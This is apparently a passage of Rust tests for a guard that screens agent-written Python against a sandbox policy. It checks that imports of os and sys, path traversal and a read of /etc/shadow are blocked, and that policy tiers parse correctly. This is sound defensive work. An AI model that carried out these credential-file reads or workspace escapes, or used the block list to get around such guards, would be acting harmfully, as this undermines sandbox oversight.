    assert!(v.findings.is_empty(), "{v:#?}");
    for (refused, rule) in [
        ("import os", "blocked_module"),
        ("import os.path", "blocked_module"),
        ("from os import system", "blocked_module"),
        ("from os import getcwd, environ", "blocked_module"),
        ("from os import *", "blocked_module"),
        ("from os import path", "blocked_module"),
        ("from sys import modules", "blocked_module"),
        (
            "from os.path import exists\nexists('/etc/shadow')",
            "path_outside_workspace",
        ),
        (
            "from os.path import getsize\ngetsize('../../x')",
            "path_outside_workspace",
        ),
        (
            "from os import makedirs\nmakedirs('/tmp/x')",
            "path_outside_workspace",
        ),
    ] {
        let v = g.check(refused.as_bytes(), &c);
        assert_eq!(v.decision, Decision::Blocked, "{refused}: {v:#?}");
        assert!(rules(&v).contains(&rule), "{refused}: {v:#?}");
    }
    // The refusal of `import os` tells the agent what it may write instead.
    let v = g.check(b"import os", &c);
    assert!(
        v.findings[0]
            .message
            .contains("from os import cpu_count, getcwd, makedirs, sep"),
        "{v:#?}"
    );
    // The default has none of it.
    assert_eq!(check(ok).decision, Decision::Blocked);
}

#[test]
fn tier_entries_that_name_nothing_are_errors() {
    for (text, field) in [
        (
            "extends = \"default\"\n[modules]\nunblocked = [\"nosuchmodule\"]\n",
            "modules.unblocked",
        ),
        (
            "extends = \"default\"\n[modules]\nimportable = [\"getcwd\"]\n",
            "modules.importable",
        ),
        ("extends = \"data_science\"\n", "extends"),
    ] {
        let err = Guard::from_policy_toml(text).unwrap_err().to_string();
        assert!(err.contains(field), "{text}: {err}");
    }
    // A deployment's file may extend any tier, and take an entry out again.
    let g = Guard::from_policy_toml(
        "extends = \"strict\"\n[modules]\nallow_only = [\"numpy\"]\nunblocked = [\"argparse\"]\n",
    )
    .unwrap();
    let c = ctx();
    for src in ["import numpy", "import math"] {
        assert_eq!(
            g.check(src.as_bytes(), &c).decision,
            Decision::Allowed,
            "{src}"
        );
    }
    // argparse is out of the blocked list, but not in strict's vocabulary.
    let v = g.check(b"import argparse", &c);
    assert!(v.findings[0].message.contains("allow_only"), "{v:#?}");
    let v = g.check(b"import pandas", &c);
    assert_eq!(v.decision, Decision::Blocked);
}
